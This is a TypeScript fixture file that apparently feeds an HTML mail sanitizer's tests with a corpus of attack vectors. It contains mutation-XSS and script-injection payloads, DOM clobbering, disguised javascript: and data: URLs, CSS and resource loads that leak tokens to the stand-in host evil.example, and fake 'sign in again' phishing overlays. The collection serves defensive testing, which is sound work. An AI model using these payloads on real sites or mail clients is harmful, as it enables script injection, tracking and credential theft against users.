/* HTML that tries something, by what it tries: our own collection, beside those in tests/corpus/html. Who gets through asks
   evil.example, or says alert(1). */

const EVIL = 'https://evil.example';
const ALERT = '<img src=x onerror=alert(1)>';

/* A second reading makes another tree of it: text of one kind of element becomes markup of another. */
const mutation = [
  `<svg></p><style><a title="</style>${ALERT}">`,
  `<math><mtext><table><mglyph><style><!--</style>${ALERT}-->`,
  `<math><mtext><mglyph><svg><mtext><style><path id="</style>${ALERT}">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style>${ALERT}"></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg><style>${ALERT}</style></svg></annotation-xml></math>`,
  `<svg><foreignObject><math><mi><style><!--</style>${ALERT}--></mi></math></foreignObject></svg>`,
  `<svg><title><style></title>${ALERT}</style></svg>`,
  `<svg><desc><noscript></desc>${ALERT}</noscript></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math>${ALERT}`,
  `<form id=a><div></form><form id=b>${ALERT}</form></div>`,
  `<noscript><style></noscript>${ALERT}</style>`,
  `<noembed><p title="</noembed>${ALERT}"></noembed>`,
  `<noframes><p title="</noframes>${ALERT}"></noframes>`,
  `<iframe><p title="</iframe>${ALERT}"></iframe>`,
  `<xmp><p title="</xmp>${ALERT}"></xmp>`,
  `<textarea><p title="</textarea>${ALERT}"></textarea>`,
  `<title><p title="</title>${ALERT}"></title>`,
  `<style><p title="</style>${ALERT}"></style>`,
  `<template><p title="</template>${ALERT}"></template>`,
  `<template><script>alert(1)</script></template><template><template>${ALERT}</template></template>`,
  `<select><template><style></select>${ALERT}</style></template></select>`,
  `<select><option><style></option></select>${ALERT}</style>`,
  `<table><tr><td><select><table></select>${ALERT}</table>`,
  `<table><style><p title="</style>${ALERT}"></table>`,
  `<table><caption><svg><desc><table></caption>${ALERT}`,
  `<table><colgroup><template><col><p>${ALERT}</template></colgroup></table>`,
  `<plaintext>${ALERT}`,
  `<p><plaintext></p>${ALERT}`,
  `<frameset><frame src="javascript:alert(1)"></frameset>${ALERT}`,
  `<body><frameset onload=alert(1)>`,
  `<isindex action="javascript:alert(1)" prompt="${EVIL}">`,
  `<image src=x onerror=alert(1)><image src="${EVIL}/1">`,
  `<listing>&lt;img src=x onerror=alert(1)&gt;</listing><pre>\n\n&lt;script&gt;alert(1)&lt;/script&gt;</pre>`,
  `<a href="x"><table><a href="javascript:alert(1)">y</a></table></a>`,
  `<b><p></b>${ALERT}<i></p></i>`,
  `<ruby><rtc><rt>${ALERT}</rtc></ruby><nobr><nobr>x</nobr></nobr>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><animate attributeName=href values="javascript:alert(1)"/></svg>`,
  `<svg><set attributeName="onmouseover" to="alert(1)"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  `<svg><style>@import "${EVIL}/s";</style><script href="data:,alert(1)"/></svg>`,
  `<svg><feImage href="${EVIL}/f"/><image href="${EVIL}/i"/><use href="${EVIL}/u#a"/></svg>`,
  `<math href="javascript:alert(1)"><maction actiontype="statusline#${EVIL}" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<![CDATA[<p>]]>${ALERT}]]>`,
  `<svg><![CDATA[</svg>${ALERT}]]></svg>`,
  `<?xml version="1.0"?><?pi ${ALERT}?>`,
  `<!DOCTYPE html [<!ENTITY x "${ALERT}">]>&x;`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!---><img src=x onerror=alert(1)>-->`,
  `<!-- --!><img src=x onerror=alert(1)> -->`,
  `<!-- <!-- --> <img src=x onerror=alert(1)> -->`,
  `<!-- x -- > ${ALERT} -->`,
  `<!x><img src=x onerror=alert(1)>`,
  `</ <img src=x onerror=alert(1)>>`,
  `<//><img src=x onerror=alert(1)>`,
  `<div><![if !mso]>${ALERT}<![endif]></div>`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `${'<div>'.repeat(600)}<math><mtext>${'<b>'.repeat(20)}<style><a title="</style>${ALERT}">`,
  `${'<font color=red>'.repeat(520)}${ALERT}<svg><style><a title="</style>${ALERT}">`,
  `${'<table><tr><td>'.repeat(180)}<select><svg><style><a title="</style>${ALERT}">`,
];

/* What a browser runs, however its name is written. */
const scripts = [
  '<script>alert(1)</script>', '<SCRIPT/X SRC="data:,alert(1)"></SCRIPT>', '<script\x0csrc=data:,alert(1)></script>', '<<script>alert(1)//<</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>', '<script>alert(1)', '<script type=module>alert(1)</script>', '<script src=//evil.example/x.js async></script>',
  '<img src=x onerror\n=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src=x onerror\x0b=alert(1) oNeRrOr=alert(1)>', '<img src="x` `onerror=alert(1)">', "<img src=`x`onerror=alert(1)>",
  '<img """><script>alert(1)</script>">', "<img src='x' '' onerror=alert(1)>", '<img =x src=x onerror=alert(1)>', '<img src=x "onerror=alert(1)>', '<p title=\'"><img src=x onerror=alert(1)>\'>x',
  '<a title=x title="><img src=x onerror=alert(1)>" href=# href="javascript:alert(1)">x</a>', '<input onfocus=alert(1) autofocus>', '<details open ontoggle=alert(1)>', '<body onload=alert(1) onpageshow=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>', '<div style="animation:x" onanimationstart=alert(1)>', '<video src=x onerror=alert(1)><source onerror=alert(1)></video>', '<audio onloadstart=alert(1) src=x>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<applet code=x archive=https://evil.example/x.jar></applet>', '<keygen autofocus onfocus=alert(1)>', '<button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button>', '<portal src=https://evil.example/></portal>',
  '<custom-element onclick=alert(1) is=x-y>x</custom-element>', '<p contenteditable onfocus=alert(1) tabindex=0 autofocus>x</p>', '<search><dialog open onclose=alert(1)>x</dialog></search>',
];

/* Names that shadow what a page's own scripts look for. */
const clobbering = ['<form id=document><input name=cookie><input name=body></form>', '<img name=getElementById><img id=desk name=location>', '<a id=config><a id=config name=url href="https://evil.example/">x</a>', '<iframe name=app></iframe><object id=__proto__></object>', '<map name=x><area href="javascript:alert(1)" shape=default></map><img usemap=#x src=y>', '<label for=password>Password</label><output name=x>y</output>'];

/* Addresses that are not what they look like. */
const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java&Tab;script&colon;alert(1)', '&#106;avascript&#58;alert(1)', '&#x6a&#x61vascript:alert(1)', 'javascript&colon;alert(1)',
  'javascript\u00ad:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:image/svg+xml,<svg onload=alert(1)>', 'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'jar:https://evil.example!/x',
  'blob:https://evil.example/x', 'filesystem:https://evil.example/x', 'file:///etc/passwd', 'about:blank', 'ws://evil.example/', 'intent://evil.example/', 'ms-settings:privacy', 'cid:"onerror=alert(1)', "cid:x'onerror=alert(1)", 'cid:../../../api/v1/session', 'cid:a@b?x=1#y', 'cid:%00%0d%0aSet-Cookie:x=1',
  '/api/v1/session', '//evil.example/1', '\\\\evil.example\\1', '/\\evil.example/1', 'http:evil.example/1', 'https:///evil.example/1', 'https:\\\\evil.example\\1', 'h\tttps://evil.example/1', 'https://evil.example\\@desk.example/', 'https://desk.example@evil.example/', 'https://desk.example:pw@evil.example/1', 'https://evil。example/1',
  'https://xn--80ak6aa92e.example/', 'https://аррӏе.example/', 'https://evil.example\u202egnp.1', '?x=1', '#top', '.', '', 'mailto:a@desk.example?bcc=all@evil.example&body=x%0d%0aBcc:y', 'tel:*21*0049123%23', 'sms:+1;javascript:alert(1)', 'http://[::1]:1/', 'http://0x7f000001/1', 'https://evil.example/%00', `https://evil.example/${'a'.repeat(9000)}`,
];
const holders = ['<img src="%">', '<table background="%"><tr><td>x</td></tr></table>', '<p style="background:url(%)">x</p>'];

/* What loads without anybody's asking. */
const loads = [
  ...['prefetch', 'preload', 'modulepreload', 'dns-prefetch', 'preconnect', 'prerender', 'stylesheet', 'icon', 'manifest', 'import'].map((rel) => `<link rel=${rel} as=image href=${EVIL}/${rel}>`),
  `<meta http-equiv=refresh content="0;url=${EVIL}/m">`, '<meta http-equiv=refresh content="0;javascript:alert(1)">', '<meta http-equiv=Set-Cookie content="a=b">', '<meta http-equiv=Content-Security-Policy content="default-src *">', '<meta charset=utf-7>+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-',
  `<base href="${EVIL}/"><img src=1><a href=2>x</a>`, `<img srcset="${EVIL}/1 1x, ${EVIL}/2 2x" sizes=100vw>`, `<picture><source srcset="${EVIL}/1"><img src="${EVIL}/2"></picture>`, `<img src="${EVIL}/open?id=7" width=1 height=1>`, `<img src="${EVIL}/open" style="display:none">`, `<img lowsrc="${EVIL}/1" dynsrc="${EVIL}/2" longdesc="${EVIL}/3" data-src="${EVIL}/4" loading=eager>`,
  `<video poster="${EVIL}/1" src="${EVIL}/2" autoplay muted><track src="${EVIL}/3" default></video>`, `<audio src="${EVIL}/1" autoplay><source src="${EVIL}/2"></audio>`, `<bgsound src="${EVIL}/1">`, `<input type=image src="${EVIL}/1">`, `<body background="${EVIL}/1">x`, `<tr background="${EVIL}/1"><td background="${EVIL}/2">x`, `<table><tbody background="${EVIL}/1"><tr><td>x`,
  `<a href="${EVIL}/1" ping="${EVIL}/2" attributionsrc="${EVIL}/3" download=x>x</a>`, `<form action="${EVIL}/1"><button>x</button></form>`, `<object data="${EVIL}/1" type=image/png></object><embed src="${EVIL}/2"><iframe src="${EVIL}/3" loading=eager></iframe>`, `<v:fill src="${EVIL}/1"/><v:imagedata src="${EVIL}/2"/>`, `<xml id=x src="${EVIL}/1"></xml><html manifest="${EVIL}/2"><head profile="${EVIL}/3">`,
  `<blockquote cite="${EVIL}/1">x</blockquote><q cite="${EVIL}/2">y</q><del cite="${EVIL}/3">z</del>`, `<fencedframe src="${EVIL}/1"></fencedframe><script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/2"]}]}</script>`,
];

/* Styles that ask somebody, run something or tell what they see. */
const URLS = [`url(${EVIL}/1)`, `url("${EVIL}/1")`, `URL( '${EVIL}/1' )`, `u\\72l(${EVIL}/1)`, `\\75rl(${EVIL}/1)`, `url(/*x*/${EVIL}/1)`, `url/**/(${EVIL}/1)`, `image-set("${EVIL}/1" 1x)`, `-webkit-image-set(url(${EVIL}/1) 1x)`, `cross-fade(url(${EVIL}/1), url(${EVIL}/2), 50%)`, `image("${EVIL}/1")`, `src("${EVIL}/1")`, `attr(data-x url)`, `var(--x, url(${EVIL}/1))`, `paint(x)`, `element(#x)`, `-moz-element(#x)`, `url(${EVIL}/1`, `url("${EVIL}/1`];
const LOADING = ['background', 'background-image', 'list-style', 'list-style-image', 'border-image', 'border-image-source', 'content', 'cursor', 'filter', 'mask', '-webkit-mask-image', 'mask-image', 'clip-path', 'shape-outside', 'offset-path', '--x', 'behavior', '-moz-binding', 'src', 'animation-timeline'];
const DECLARATIONS = [
  'width:expression(alert(1))', 'width:e\\78pression(alert(1))', 'wid/**/th:exp/**/ression(alert(1))', 'behavior:url(#default#time2)', '-o-link:"javascript:alert(1)";-o-link-source:current', 'xss:expr/*\\*/ession(alert(1))', 'filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=x)', 'color:red;}</style><img src=x onerror=alert(1)>', `color:red}*{background:url(${EVIL}/1)}`, `--x:url(${EVIL}/1);background:var(--x)`,
  `background:red;background-image:none,url(${EVIL}/1)`, `font-family:"x;background:url(${EVIL}/1)`, `font-family:'</style><script>alert(1)</script>'`, `color:red\n;\tbackground\t:\turl(${EVIL}/1)`, `{background:url(${EVIL}/1)}`, `color:red;;;;background-image:url(${EVIL}/1)!important`,
];
const SHEETS = [
  `@import "${EVIL}/1";`, `@import url(${EVIL}/1) screen;`, `@IMPORT/**/url("${EVIL}/1");`, `@\\69mport "${EVIL}/1";`, `@charset "utf-7";@import '${EVIL}/1';`, `@font-face{font-family:x;src:url(${EVIL}/1)}p{font-family:x}`, `@namespace url(${EVIL}/1);`, `@media all{p{background:url(${EVIL}/1)}}`, `@supports (display:block){p{background:url(${EVIL}/1)}}`, `@layer x{p{background:url(${EVIL}/1)}}`, `@container (width>0){p{background:url(${EVIL}/1)}}`,
  `@property --x{syntax:"<url>";inherits:false;initial-value:url(${EVIL}/1)}p{background:var(--x)}`, `@keyframes x{from{background:url(${EVIL}/1)}}p{animation:x 1s}`, `@page{background:url(${EVIL}/1)}`, `@view-transition{navigation:auto}`, `p::before{content:url(${EVIL}/1)}`, `p::before{content:"Sign in again";position:fixed;inset:0;background:#f00}`, `a[href*="token=a"]{background:url(${EVIL}/a)}`, `input[value^="a"]{background:url(${EVIL}/1)}`, `a:visited{background:url(${EVIL}/1)}`, `p{background:url(${EVIL}/1)}/*`, `p{color:red}}}}}p{background:url(${EVIL}/1)}`, `p{content:"\\"}";background:url(${EVIL}/1)}`, `p{/*}*/background:url(${EVIL}/1)}`, `<!--p{background:url(${EVIL}/1)}-->`, `p{background:url(${EVIL}/1`, `\uFEFF p{background:url(${EVIL}/1)}`, `html,body{position:fixed!important;z-index:2147483647}`, `*{all:unset;position:fixed;inset:0}`, `p{color:red;&{background:url(${EVIL}/1)}}`,
];
const styles = [
  ...LOADING.map((property) => `<p style="${property}:url(${EVIL}/${property})">x</p>`), ...URLS.map((url) => `<p data-x="${EVIL}/1" style='background:${url.replaceAll("'", '&#39;')}'>x</p>`),
  ...DECLARATIONS.map((text) => `<p style="${text.replaceAll('"', '&quot;')}">x</p>`), ...SHEETS.map((text) => `<style>${text}</style><p>x</p><a href="${EVIL}/?token=a">y</a><input value=a>`),
  `<style media="screen">p{background:url(${EVIL}/1)}</style><style type="text/x-less">p{background:url(${EVIL}/2)}</style><p>x`, `<style></style  ><img src=x onerror=alert(1)></style>`, `<style><!--</style><img src=x onerror=alert(1)>--></style>`, `<div style="x" STYLE="background:url(${EVIL}/1)">x</div>`,
];

/* What would cover the page around the mail, or draw eyes to what the mail is not. */
const overlays = [
  'position:fixed;inset:0', 'position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px', 'position:sticky;top:0', 'position:fi\\78 ed;inset:0', 'position:/**/fixed;inset:0', 'position:fixed!important;top:0;left:0;width:100vw;height:100vh', 'margin:-5000px;padding:5000px', 'width:100000vw;height:100000vh', 'transform:scale(99)', 'zoom:50', 'z-index:2147483647;float:left;margin-top:-900px', 'font-size:99999px;line-height:99999px', 'box-shadow:0 0 0 99999px red', 'outline:99999px solid red', 'text-shadow:0 0 9999px red', 'border:99999px solid red', 'letter-spacing:99999px', 'filter:blur(99px)', 'backdrop-filter:blur(9px)', 'mix-blend-mode:difference', 'writing-mode:vertical-rl;height:99999px', 'columns:999', 'animation:x 1s infinite', 'view-transition-name:x;anchor-name:--x', 'overflow:visible;contain:none', 'cursor:none;pointer-events:all',
].map((style) => `<div style="background:#f00;${style}">Your session has ended. Sign in again.</div>`);
const popovers = ['<dialog open style="inset:0">x</dialog>', '<div popover=manual id=p>x</div><button popovertarget=p autofocus>y</button>', '<marquee width=9999 scrollamount=999>x</marquee>', `<bdo dir=rtl>${EVIL}</bdo>\u202e${EVIL}`, '<h1 accesskey=x tabindex=1 contenteditable>x</h1>', '<a href="https://evil.example/" target=_top>x</a><a href="https://evil.example/" target=_parent rel=opener>y</a>'];

/* One character set pretends to be another; bytes that are none. */
const charsets = ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\ufeff<script>alert(1)</script>', '\u00bcscript\u00bealert(1)\u00bc/script\u00be', '<\u0000script>alert(1)</script>', '<img src=x\u0000onerror=alert(1)>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60script&#62alert(1)&#60/script&#62', '&#x3c;img src=x onerror=alert(1)&#x3e;', '&#xfffff3c;&#0;&#x80;&#xd800;&#x110000;', '\u2028<img src=x onerror=alert(1)>\u2029', '％3Cscript％3Ealert(1)', '\u{e0001}\u{e0020}<b onmouseover\u3000=alert(1)>x</b>', '<ſcript>alert(1)</ſcript><ıframe src=x>'];

/* Those that stay within their own tags share a mail, so many at a time. */
const TOGETHER = 10;
const together = (some: string[]): string[] => some.flatMap((_, i) => (i % TOGETHER === 0 ? [some.slice(i, i + TOGETHER).join('<hr>')] : []));

export const vectors: string[] = [
  ...mutation, ...scripts, ...charsets,
  ...together([...clobbering, ...loads, ...styles, ...overlays, ...popovers]),
  /* Each address in a link, and in one of the other places in turn. */
  ...together(addresses.flatMap((address, i) => ['<a href="%">x</a>', holders[i % holders.length] as string].map((holder) => holder.replace('%', () => address.replaceAll('"', '&quot;'))))),
];
